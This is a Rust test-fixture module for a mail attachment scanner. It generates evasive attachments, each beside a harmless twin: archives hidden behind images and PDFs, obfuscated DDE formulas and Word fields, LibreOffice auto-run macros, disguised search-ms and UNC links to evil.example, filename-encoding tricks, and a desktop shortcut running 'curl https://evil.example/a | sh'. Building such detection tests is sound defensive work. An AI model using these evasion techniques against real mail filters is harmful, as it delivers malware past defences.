//! What programs for archives, Office and mail open, and a scan may pass over: archives behind other data, commands in tables and nested fields,
//! scripts of LibreOffice, links in pieces, names in broken words, files in locked PDFs. Each class has its honest twin.

use super::carriers::{opaque_signed, program, zipped};
use super::expected::{Bad, End, Mail, bad};
use super::locked_pdf::{self, octets};
use crate::mail::{attached, base64, gzipped, zip};
use weir_scan::test_files;

const FORBIDDEN: &[End] = &[End::Forbidden];
const HEAD: &str = "From: Accounts <accounts@a.example>\r\nTo: bob@b.example\r\nSubject: Payment advice\r\nDate: Wed, 18 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n";
const SCRIPT: &[u8] = b"var s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"cmd /c calc.exe\");\r\n";

pub(crate) fn all() -> Vec<Bad> {
    [behind(), tables(), fields(), scripts(), links(), lists(), words(), names(), entries(), pdfs(), formats()]
        .into_iter()
        .flatten()
        .collect()
}

fn twin(name: &str, message: Vec<u8>) -> Mail {
    Mail { class: "honest twin of what was not opened", name: name.to_owned(), message }
}

fn held(class: &'static str, name: &str, message: Vec<u8>, says: &'static str) -> Bad {
    bad(class, name, message, FORBIDDEN, says)
}

/// [`SCRIPT`] as `run.js`, and a line as `notes.txt`, as 7-Zip packs them.
const SEVEN_SCRIPT: &str = "377abcaf271c0004350417e74c000000000000005a0000000000000064385de60100477661722073203d206e657720416374697665584f626a6563742822575363726970742e53 \
    68656c6c22293b0d0a732e52756e2822636d64202f632063616c632e65786522293b0d0a000104060001094c00070b010001212101000c4800080a01122ca1ca00000501190c00000000000000000000 \
    0000110f00720075006e002e006a0073000000190400000000140a01008c3749c44677dd01150601002080a4810000";
const SEVEN_TEXT: &str = "377abcaf271c00041a5b1bd50a000000000000005a000000000000006c2e82db01000568656c6c6f0a000104060001090a00070b010001212101000c0600080a0120303a36000005 \
    01190c0000000000000000000000001115006e006f007400650073002e007400780074000000140a01008c3749c44677dd01150601002080a4810000";

fn picture() -> Vec<u8> {
    [b"\xff\xd8\xff\xe0\0\x10JFIF\0".as_slice(), &[1; 3000]].concat()
}

fn tar(name: &str, data: &[u8]) -> Vec<u8> {
    let mut header = vec![0u8; 512];
    let mut write = |at: usize, text: &str| header[at..at + text.len()].copy_from_slice(text.as_bytes());
    write(0, name);
    write(100, "0000644\x000000000\x000000000\0");
    write(124, &format!("{:011o}\0{:011o}\0", data.len(), 0));
    write(148, "        ");
    write(156, "0");
    write(257, "ustar\x0000");
    let sum: u32 = header.iter().map(|octet| u32::from(*octet)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut content = data.to_vec();
    content.resize(data.len().next_multiple_of(512) + 1024, 0);
    [header, content].concat()
}

fn behind() -> Vec<Bad> {
    let class = "archive behind something else";
    let seven = octets(SEVEN_SCRIPT);
    let stub = [b"MZ is no program, ".as_slice(), &b"only a text\n".repeat(60)].concat();
    let document = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n".to_vec();
    let fronts = [
        ("a picture", "photo.jpg", picture()),
        ("a text", "notes.dat", b"hello\n".repeat(200)),
        ("a stub", "notes.dat", stub),
        ("a PDF", "invoice.pdf", document),
    ];
    let mut out = Vec::new();
    for (name, file, front) in &fronts {
        for (kind, archive) in
            [("7z", seven.clone()), ("RAR", test_files::rar("run.js", SCRIPT)), ("tar", tar("run.js", SCRIPT))]
        {
            let message = attached(file, &[front.as_slice(), &archive].concat());
            out.push(held(class, &format!("{kind} behind {name}"), message, "extension .js"));
        }
    }
    // What programs for archives do not know, and what has the mark of an archive and is none.
    let attribute =
        [b"\x78\x9f\x3e\x22\x01\0\x01\x78\x56\x34\x12".as_slice(), &(seven.len() as u32).to_le_bytes()].concat();
    let frame = [b"\x50\x2a\x4d\x18".as_slice(), &(seven.len() as u32).to_le_bytes()].concat();
    let disc = [vec![b'x'; 0x8000], b"\xffCD001\x01".to_vec(), vec![0; 2100]].concat();
    let note = super::carriers::note(b"hello");
    for (name, front) in [
        ("an attribute of TNEF", attribute),
        ("a frame of Zstandard that holds nothing", frame),
        ("the mark of LHA", [b"\0\0-lh0-".as_slice(), &[0; 20]].concat()),
        ("the mark of ARJ", b"\x60\xea\0\0".to_vec()),
        ("the end of a zip archive", [b"PK\x05\x06".as_slice(), &[0; 18]].concat()),
        ("the mark of a disc", disc),
        ("a note", note),
        ("a calendar", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n".to_vec()),
        ("a signed message", opaque_signed(b"hello")),
    ] {
        let message = attached("photos.dat", &[front.as_slice(), &seven].concat());
        out.push(held(class, &format!("7z behind {name}"), message, "extension .js"));
    }
    out.push(held(
        class,
        "7z beside content in pieces",
        attached("photos.dat", &signed_in_pieces(&seven)),
        "extension .js",
    ));
    let gzips = [picture(), b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x07xxxxxxxx".repeat(5), gzipped(&program())].concat();
    out.push(held(class, "gzip behind beginnings of it", attached("photo.jpg", &gzips), "a Windows program"));
    let image = [picture(), test_files::iso("RUN.JS", SCRIPT)].concat();
    out.push(held(class, "a disc", attached("photo.jpg", &image), "extension .js"));
    let mut both = test_files::iso("RUN.JS", SCRIPT);
    both[..12].copy_from_slice(&picture()[..12]);
    out.push(held(class, "a disc that begins like a picture", attached("photo.jpg", &both), "extension .js"));
    let help = [picture(), b"ITSF\x03\0\0\0\x60\0\0\0\x01\0\0\0".to_vec(), vec![0; 200]].concat();
    out.push(held(class, "a help file", attached("photo.jpg", &help), "a compiled help file"));
    let packed = [picture(), b"hsqs".to_vec(), vec![0; 24], vec![4, 0, 0, 0], vec![0; 100]].concat();
    let apple = [picture(), b"koly\0\0\0\x04\0\0\x02\0".to_vec(), vec![0; 500]].concat();
    for (name, data) in [("SquashFS", packed), ("an image of macOS", apple)] {
        out.push(bad(class, name, attached("photo.jpg", &data), &[End::NotOpened], "a disk image is not opened"));
    }
    let mut archive = zip(&[crate::mail::member("run.js", SCRIPT)]);
    archive.resize(archive.len() + (100 << 10), 1);
    let zip = [picture(), archive].concat();
    out.push(held(class, "zip before more than a comment", attached("photo.jpg", &zip), "extension .js"));
    let gzip = [picture(), gzipped(&program())].concat();
    out.push(held(class, "gzip", attached("photo.jpg", &gzip), "a Windows program"));
    let inside = zipped("photo.jpg", &[picture(), seven].concat());
    out.push(held(class, "in a zip archive", attached("photos.zip", &inside), "extension .js"));
    let image = [picture(), b"MSWIM\0\0\0\xd0\0\0\0\0\x0d\x01\0".to_vec(), vec![0; 300]].concat();
    out.push(bad(class, "a WIM image", attached("photo.jpg", &image), &[End::NotOpened], "a WIM image is not opened"));
    out
}

/// A message whose content is in two pieces, with this where its certificates stand.
fn signed_in_pieces(certificates: &[u8]) -> Vec<u8> {
    let head = b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80\x30\x80\x02\x01\x01\x31\0";
    let content =
        b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x80\x24\x80\x04\x02he\x04\x03llo\0\0\0\0\0\0";
    [head.as_slice(), content, &super::carriers::tagged(0xa0, certificates), b"\x31\0\0\0\0\0\0\0"].concat()
}

const SPREADSHEET: &str =
    "xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"";

fn workbook(formula: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook {SPREADSHEET}><Worksheet ss:Name=\"a\"><Table><Row>\
         <Cell ss:Formula=\"{formula}\"/></Row></Table></Worksheet></Workbook>"
    )
}

/// A sheet of today's Excel.
fn sheet(formula: &str) -> String {
    format!(
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>{formula}</f></c></row>\
         </sheetData></worksheet>"
    )
}

fn tables() -> Vec<Bad> {
    let (class, says) = ("DDE in a table", "(DDE)");
    let link = "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>";
    let command = "cmd|'/c calc'!A0";
    let zipped = |place: &str, part: &str| attached("a.xlsx", &zipped(place, part.as_bytes()));
    vec![
        held(class, "XML of 2003", attached("a.xml", workbook(&format!("={command}")).as_bytes()), says),
        held(
            class,
            "XML of 2003 in references",
            attached("a.xls", workbook("&#61;cmd&#x7c;&apos;/c calc&apos;!A0").as_bytes()),
            says,
        ),
        held(class, "a list with its own sign", attached("a.csv", b"sep=#\r\n1#=cmd|'/c calc'!A0\r\n"), says),
        held(class, "a list with a mark", attached("a.csv", b"\xef\xbb\xbf=cmd|'/c calc'!A0;1\r\n"), says),
        held(class, "a formula in quotes", attached("a.csv", b"1,\"=SUM(1,cmd|'/c calc'!A0)\"\r\n"), says),
        held(class, "a formula in two lines", attached("a.csv", b"1,\"=1+\r\ncmd|'/c calc'!A0\",2\r\n"), says),
        held(class, "a cell", zipped("xl/worksheets/sheet1.xml", &sheet(command)), says),
        held(class, "a cell elsewhere", zipped("data/a.dat", &sheet("cmd|&apos;/c calc&apos;!A0")), says),
        held(class, "a link", zipped("xl/externalLinks/externalLink1.xml", link), says),
        held(class, "a link elsewhere", zipped("custom/one.bin", link), says),
        held(
            class,
            "a binary link",
            attached(
                "a.xlsb",
                &super::carriers::zipped(
                    "xl/externalLinks/externalLink1.bin",
                    b"\xe8\x02\x20\x01\0\x03\0\0\0c\0m\0d\0",
                ),
            ),
            says,
        ),
    ]
}

/// A document of Word with a field: braces are its beginning and end, brackets a run of its code.
fn word(field: &str) -> Vec<u8> {
    let tags = field
        .replace('{', "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>")
        .replace('}', "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>")
        .replace('[', "<w:r><w:instrText xml:space=\"preserve\">")
        .replace(']', "</w:instrText></w:r>");
    let space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    let document = format!("<w:document xmlns:w=\"{space}\"><w:body><w:p>{tags}</w:p></w:body></w:document>");
    attached("a.docx", &zipped("word/document.xml", document.as_bytes()))
}

fn numbers(text: &str) -> String {
    text.bytes().map(|letter| letter.to_string()).collect::<Vec<_>>().join(" ")
}

fn fields() -> Vec<Bad> {
    let (class, says) = ("DDE in a field", "(DDE)");
    let (whole, name) = (numbers("DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\""), numbers("DDE"));
    let rtf = format!(
        "{{\\rtf1{{\\field{{\\*\\fldinst {{\\field{{\\*\\fldinst  QUOTE {whole} }}{{\\fldrslt x}}}} }}{{\\fldrslt x}}}}}}"
    );
    vec![
        held(class, "as numbers", word(&format!("{{[ ]{{[ QUOTE {whole} ]}}[ ]}}")), says),
        held(
            class,
            "the name in two",
            word(&format!("{{{{[QUOTE {name}]}}{{[QUOTE \"AUTO\"]}}[ c:\\\\x.exe \"/k calc\" ]}}")),
            says,
        ),
        held(class, "in runs", word("{[ D][DE][AUTO c:\\\\x.exe \"/k calc\" ]}"), says),
        held(class, "as text", word("{<w:r><w:t>DDEAUTO c:\\\\x.exe</w:t></w:r>}"), says),
        held(
            class,
            "a simple field",
            word("<w:fldSimple w:instr=\" DDEAUTO c:\\\\x.exe &quot;/k calc&quot; \"/>"),
            says,
        ),
        held(class, "a bookmark", word("{[ ]{[ REF a ]}[ c:\\\\x.exe ]}"), says),
        held(class, "RTF", attached("a.rtf", rtf.as_bytes()), says),
        held(
            class,
            "a table on a stranger's computer",
            word("{[ LINK Excel.Sheet.12 \"\\\\\\\\evil.example\\\\a\\\\b.xlsx\" r1c1 \\a \\p ]}"),
            "an object from elsewhere",
        ),
        held(
            class,
            "a text from the web",
            word("{[ INCLUDETEXT \"https://evil.example/a.doc\" ]}"),
            "an object from elsewhere",
        ),
    ]
}

fn open_document(content: &str, flat: bool) -> String {
    let root = if flat { "office:document" } else { "office:document-content" };
    format!(
        "<?xml version=\"1.0\"?><{root} xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
         xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">{content}</{root}>"
    )
}

fn listener(event: &str, script: &str) -> String {
    format!(
        "<office:event-listeners><script:event-listener script:language=\"ooo:script\" script:event-name=\"{event}\" \
         xlink:href=\"vnd.sun.star.script:{script}\"/></office:event-listeners>"
    )
}

fn scripts() -> Vec<Bad> {
    let (class, says) = ("script of LibreOffice", "runs something");
    let python = "a.py$x?language=Python&amp;location=user";
    let opened = listener("dom:load", python);
    let basic = "<script:event-listener script:language=\"ooo:Basic\" script:event-name=\"office:load\" script:macro-name=\"Standard.a.x\"/>";
    let link = "<text:a xlink:href=\"vnd.sun.star.script:a.py$x?language=Python&amp;location=share\">x</text:a>";
    let slide = "<presentation:event-listener script:event-name=\"dom:click\" presentation:action=\"execute\" xlink:href=\"/usr/bin/xcalc\"/>";
    let ods = |content: &str| attached("a.ods", &zipped("content.xml", open_document(content, false).as_bytes()));
    let flat = |name: &str, content: &str| attached(name, open_document(content, true).as_bytes());
    vec![
        held(class, "when it is opened", ods(&opened), says),
        held(class, "in one file", flat("a.fodt", &opened), says),
        held(class, "in one file of any name", flat("a.xml", &opened), says),
        held(class, "Basic", ods(basic), says),
        held(class, "a link", flat("a.fodt", link), says),
        held(class, "a button with a script of the program", ods(&listener("form:performaction", python)), says),
        held(class, "a slide", flat("a.fodp", slide), says),
    ]
}

fn page(body: &str) -> Vec<u8> {
    attached("invoice.html", format!("<html><body>{body}</body></html>").as_bytes())
}

fn links() -> Vec<Bad> {
    let (class, says) = ("link to a stranger's folder", "a stranger's computer");
    let search = "search-ms:query=inv&crumb=location:%5c%5cevil.example%5cdav";
    let body = format!(
        "{HEAD}Content-Type: text/html\r\n\r\n<html><a href=\"sea\r\nrch-ms:query=x&crumb=location:x\">here</a></html>\r\n"
    );
    let pages = [
        ("in pieces", format!("<script>location=\"sea\"+\"rch-\"+'ms:'+'{}'</script>", &search[10..])),
        ("in escapes", "<script>location='\\x73earch\\u002dms:query=x'</script>".to_owned()),
        ("in base64", "<script>location=atob('c2VhcmNoLW1zOnF1ZXJ5PXg=')</script>".to_owned()),
        ("in references", "<a href=\"&#115;earch&#45;ms&colon;query=x\">x</a>".to_owned()),
        ("another scheme", "<a href=\"search:query=a&crumb=location:\\\\evil.example\\a\">x</a>".to_owned()),
        (
            "a page that goes on",
            "<meta http-equiv=\"refresh\" content=\"0;url=file://evil.example/share/a.exe\">".to_owned(),
        ),
        ("a page that goes on to a search", format!("<meta http-equiv=refresh content=\"0; URL='{search}'\">")),
        ("a frame", "<iframe src=\"\\\\evil.example\\share\\a\"></iframe>".to_owned()),
        ("a library", "<a href=\"file://evil.example/a.library-ms\">x</a>".to_owned()),
        ("a shortcut", "<a href=\"file:////evil.example/a/b.url\">x</a>".to_owned()),
    ];
    let mut out: Vec<Bad> = pages.iter().map(|(name, body)| held(class, name, page(body), says)).collect();
    out.push(held(class, "in the text of a mail", body.into_bytes(), says));
    let pdf = format!("%PDF-1.4\n1 0 obj\n<</S/URI/URI({search})>>\nendobj\n");
    out.push(held(class, "in a locked PDF", attached("a.pdf", &octets(locked_pdf::LINK_AES)), says));
    out.push(held(class, "in a PDF", attached("a.pdf", pdf.as_bytes()), says));
    out
}

fn lists() -> Vec<Bad> {
    let (class, says) = ("file of a stranger's computer", "a stranger's computer");
    let settings = zipped("desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\a.ico\r\n");
    vec![
        held(class, "a play list", attached("a.m3u", b"\\\\evil.example\\a.mp3\r\n"), says),
        held(
            class,
            "a list of Windows",
            attached("a.asx", b"<asx version=\"3.0\"><entry><ref href=\"\\\\evil.example\\a.wma\"/></entry></asx>"),
            says,
        ),
        held(class, "the settings of a folder", attached("docs.zip", &settings), says),
    ]
}

/// A message of a text and one part, which has these fields.
fn part(fields: &str, data: &[u8]) -> Vec<u8> {
    let lines = String::from_utf8(base64(data)).unwrap();
    format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
         --BB\r\n{fields}Content-Transfer-Encoding: base64\r\n\r\n{lines}\r\n--BB--\r\n"
    )
    .into_bytes()
}

fn named(name: &str) -> String {
    format!("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n")
}

fn words() -> Vec<Bad> {
    // Sixteen bits a letter, broken in the middle of one.
    let wide: Vec<u8> = "run.js".encode_utf16().flat_map(u16::to_be_bytes).collect();
    let line = |octets: &[u8]| String::from_utf8(base64(octets)).unwrap().trim_end().to_owned();
    let long = format!("=?utf-8*{}?Q?run=2Ejs?=", "x".repeat(200));
    let broken = format!("=?utf-16be?B?{}?= =?utf-16be?B?{}?=", line(&wide[..5]), line(&wide[5..]));
    [
        ("without a blank", "=?utf-8?B?cnVu?==?utf-8?B?Lmpz?="),
        ("small letters", "=?utf-8?b?cnVuLmpz?="),
        ("a language", "=?utf-8*en?Q?run=2Ejs?="),
        ("a long language", long.as_str()),
        ("a charset that nobody knows", "=?x-none?Q?run=2Ejs?="),
        ("broken in the middle of a letter", broken.as_str()),
        ("base64 in two", "=?utf-8?B?cnV?= =?utf-8?B?uLmpz?="),
        ("without an end", "=?utf-8?b?cnVuLmpz"),
        ("the beginning of a word", "=?utf-8?b?run.js"),
        ("encoded twice", "=?utf-8?q?=3D=3Futf-8=3Fb=3FcnVuLmpz=3F=3D?="),
    ]
    .into_iter()
    .map(|(name, words)| held("name in words", name, part(&named(words), SCRIPT), "extension .js"))
    .collect()
}

fn random(length: u32) -> Vec<u8> {
    (0..length).map(|n| (n.wrapping_mul(2_654_435_761).rotate_left(n % 13) >> 11) as u8).collect()
}

fn names() -> Vec<Bad> {
    let inline = "Content-Type: application/octet-stream\r\nContent-Disposition: inline\r\nContent-ID: <run.js>\r\n";
    let says = "a piece of a file";
    vec![
        held("no name", "an id", part(inline, SCRIPT), "extension .js"),
        bad("numbered piece", "the hundredth", attached("docs.100", &random(4096)), &[End::NotOpened], says),
        held(
            "name of what runs",
            "an add-in",
            attached("a.vsto", b"<?xml version=\"1.0\"?><assembly/>"),
            "extension .vsto",
        ),
        held(
            "name of what runs",
            "a contact",
            attached("a.contact", b"<?xml version=\"1.0\"?><contact/>"),
            "extension .contact",
        ),
        held("name of what runs", "a query", attached("a.odc", b"<html></html>"), "extension .odc"),
    ]
}

fn entries() -> Vec<Bad> {
    let entry = "[Desktop Entry]\nType=Application\nName=Invoice\nIcon=application-pdf\nExec=sh -c 'curl https://evil.example/a | sh'\n";
    let link = "\u{feff}# Invoice\n\n[Desktop Entry]\nType=Link\nURL=smb://evil.example/share/\n";
    let inside = zipped("Invoice", entry.as_bytes());
    [
        ("without an extension", attached("Invoice", entry.as_bytes())),
        ("with another one", attached("Invoice.pdf", entry.as_bytes())),
        ("a link behind a comment", attached("Invoice.link", link.as_bytes())),
        ("in an archive", attached("docs.zip", &inside)),
        ("with letters that KDE reads", attached("Office", b"[Desktop Entry]\nType=Directory\nIcon[$ie]=$(xcalc)\n")),
    ]
    .into_iter()
    .map(|(name, message)| held("shortcut of a Linux desktop", name, message, "a shortcut of Linux desktops"))
    .collect()
}

fn pdfs() -> Vec<Bad> {
    [("RC4", locked_pdf::FILE_RC4), ("AES", locked_pdf::FILE_AES), ("AES with one key", locked_pdf::FILE_AES256)]
        .into_iter()
        .map(|(name, digits)| held("file in a locked PDF", name, attached("a.pdf", &octets(digits)), "extension .js"))
        .collect()
}

fn formats() -> Vec<Bad> {
    let help = [b"ITOLITLS\x01\0\0\0".as_slice(), &[0; 200]].concat();
    let folder = {
        let mut archive = test_files::rar("run.js", SCRIPT);
        // The flags of the member say that it is a folder, and its sum is right.
        let name = archive.windows(6).position(|name| name == b"run.js").unwrap();
        archive[name - 29] |= 0xe0;
        let mut sum = flate2::Crc::new();
        sum.update(&archive[name - 30..name + 6]);
        archive[name - 32..name - 30].copy_from_slice(&(sum.sum() as u16).to_le_bytes());
        archive
    };
    let mut out = vec![held("format", "help of another kind", attached("a.dat", &help), "a compiled help file")];
    out.push(held("format", "digits", attached("firmware.hex", intel_hex(&program()).as_bytes()), "a Windows program"));
    let dense = intel_hex(&program()).replace("\r\n", "");
    out.push(held("format", "digits in one line", attached("firmware.hex", dense.as_bytes()), "a Windows program"));
    out.push(held("cut off", "a letter before a program", shifted(), "a Windows program"));
    out.push(bad("format", "a folder with content", attached("a.rar", &folder), FORBIDDEN, "a folder with content"));
    out
}

/// Mail with a file of which only so many letters of the last line arrived.
pub(crate) fn cut_short(letters: usize) -> Vec<u8> {
    let lines = String::from_utf8(base64(&b"Date;Amount\r\n2026-11-18;12.50\r\n".repeat(20))).unwrap();
    let kept = &lines[..4 * 78 + letters];
    format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--BB\r\n\
         Content-Type: text/csv; name=a.csv\r\nContent-Disposition: attachment; filename=a.csv\r\nContent-Transfer-Encoding: base64\r\n\r\n{kept}\r\n--BB--\r\n"
    )
    .into_bytes()
}

/// The same with a letter before a program, in lines of one length, the last of them shorter: programs that pass over the letter see the program.
fn shifted() -> Vec<u8> {
    let letters: Vec<u8> = base64(&program()).into_iter().filter(|byte| !byte.is_ascii_whitespace()).collect();
    let kept = [b"x".as_slice(), &letters[..76 * 4 + 32]].concat();
    let lines: Vec<String> = kept.chunks(76).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
    let fields = named("a.dat");
    format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--BB\r\n\
         {fields}Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--BB--\r\n",
        lines.join("\r\n")
    )
    .into_bytes()
}

/// Lines of Intel's format.
pub(crate) fn intel_hex(data: &[u8]) -> String {
    let line = |(number, piece): (usize, &[u8])| {
        let address = (number * 128) as u16;
        let octets = [&[piece.len() as u8][..], &address.to_be_bytes(), &[0], piece].concat();
        let sum = octets.iter().fold(0u8, |sum, octet| sum.wrapping_sub(*octet));
        let digits: String = octets.iter().chain([&sum]).map(|octet| format!("{octet:02X}")).collect();
        format!(":{digits}\r\n")
    };
    data.chunks(128).enumerate().map(line).chain([":00000001FF\r\n".to_owned()]).collect()
}

/// Mail that looks the same and hides nothing.
pub(crate) fn twins() -> Vec<Mail> {
    let seven = octets(SEVEN_TEXT);
    let marks =
        b"The mark of 7z is 7z\xbc\xaf\x27\x1c, that of RAR is Rar!\x1a\x07\x01\0, and that of gzip is \x1f\x8b\x08.\n";
    let button = listener("form:performaction", "Standard.a.x?language=Basic&amp;location=document");
    let slide = "<presentation:event-listener script:event-name=\"dom:click\" presentation:action=\"next-page\"/>";
    let mail = format!(
        "{HEAD}Content-Type: text/html\r\n\r\n<html><p>Beware of links that begin with search-ms: or <a href=\"https://a.example/search\">others</a></p></html>\r\n"
    );
    let warning = format!(
        "{HEAD}Content-Type: text/html\r\n\r\n<html><p>Remove the key of ms-msdt: with <code>reg delete HKCR\\ms-msdt</code>, see \
         <a href=\"https://a.example/follina?q=ms-msdt:\">here</a>.</p></html>\r\n"
    );
    let entry = format!(
        "{HEAD}Content-Type: text/plain\r\n\r\n[Desktop Entry]\r\nType=Application\r\nExec=xcalc\r\n\r\nIs that right?\r\n"
    );
    let japanese = "=?utf-8?B?6KuL?= =?utf-8?B?5rGC?= =?utf-8?B?5pu4LnBkZg==?=";
    let broken = "=?utf-8?B?6KuL5r?= =?utf-8?B?GC5pu4LnBkZg==?=";
    let mut hybrid = test_files::iso("NOTES.TXT", b"hello");
    hybrid[446..462].copy_from_slice(b"\x80\0\x02\0\x17\0\0\0\0\x08\0\0\0\x01\0\0");
    hybrid[510..512].copy_from_slice(b"\x55\xaa");
    let field = "{[ IF ]{[ PAGE ]}[ = 1 \"dde\" \"\" ]}{[ QUOTE 72 105 ]}{[ HYPERLINK \"https://a.example\" ]}";
    vec![
        twin("7z behind a picture", attached("photo.jpg", &[picture(), seven].concat())),
        twin("marks in a text", attached("notes.dat", marks)),
        twin(
            "gzip inside a file",
            attached("data.dat", &[b"head\0\0".as_slice(), &gzipped(b"hello"), b"tail"].concat()),
        ),
        twin("a table of 2003", attached("a.xml", workbook("=RC[-1]|Sheet2!R1C1").replace("|", "+").as_bytes())),
        twin(
            "a formula",
            attached("a.xlsx", &zipped("xl/worksheets/sheet1.xml", sheet("IF(A1=\"a|b\",Sheet1!B2,0)").as_bytes())),
        ),
        twin("fields in fields", word(field)),
        twin("two fields", word("{[ INCLUDETEXT \"C:\\\\a.docx\" ]}{[ HYPERLINK \"https://example.org\" ]}")),
        twin("a disc that computers start from", attached("rescue.dat", &hybrid)),
        twin("a button", attached("a.ods", &zipped("content.xml", open_document(&button, false).as_bytes()))),
        twin("a slide", attached("a.fodp", open_document(slide, true).as_bytes())),
        twin("a warning", mail.into_bytes()),
        twin("a warning of another kind", warning.into_bytes()),
        twin(
            "a page about Follina",
            page(
                "<p>The address <code>ms-msdt:/id PCWDiagnostic</code> starts the support tool.</p><pre>location.href = \"ms-msdt:/id\"</pre>",
            ),
        ),
        twin(
            "a page with a search",
            page("<form action='https://a.example/search'><input name=query></form><script>var search='ms:'</script>"),
        ),
        twin(
            "a page with settings",
            page("<script>var site={\"search\": \"on\", \"target\": \"https://a.example/?query={term}\"}</script>"),
        ),
        twin("a link to a file server", page("<a href='file://fs.corp.example/Share/Report.docx'>Report</a>")),
        twin("a play list", attached("a.m3u", b"#EXTM3U\r\nC:\\Music\\a.mp3\r\nhttps://radio.example/live\r\n")),
        twin("a name in words", part(&named(japanese), b"%PDF-1.4\n")),
        twin("a name in broken words", part(&named(broken), b"%PDF-1.4\n")),
        twin(
            "a picture with an id",
            part(
                "Content-Type: image/png\r\nContent-Disposition: inline\r\nContent-ID: <logo.app>\r\n",
                b"\x89PNG\r\n\x1a\n",
            ),
        ),
        twin("a shortcut in the text of a mail", entry.into_bytes()),
        twin(
            "a text about shortcuts",
            attached("notes.txt", b"Shortcuts begin with a line like this:\n\n[Desktop Entry]\nExec=xcalc\n"),
        ),
        twin(
            "a unit of systemd",
            attached("weir.service", b"[Unit]\nDescription=Weir\n[Service]\nExecStart=/usr/bin/weir serve\n"),
        ),
        twin("a number", attached("orders.365", b"365;orders\r\n")),
        twin("a measurement", attached("sample.120", &[b"\0\x01\0\x02".as_slice(), &[0; 4000]].concat())),
        twin("a text in a locked PDF", attached("a.pdf", &octets(locked_pdf::FILE_TEXT))),
        twin("a program for a chip", attached("firmware.hex", intel_hex(&[0x0c; 500]).as_bytes())),
        twin("a file that was cut", cut_short(32)),
        twin("a file that was cut, one letter more", cut_short(33)),
        twin("a file that was cut, two letters more", cut_short(34)),
        twin("a file that was cut, three letters more", cut_short(35)),
    ]
}
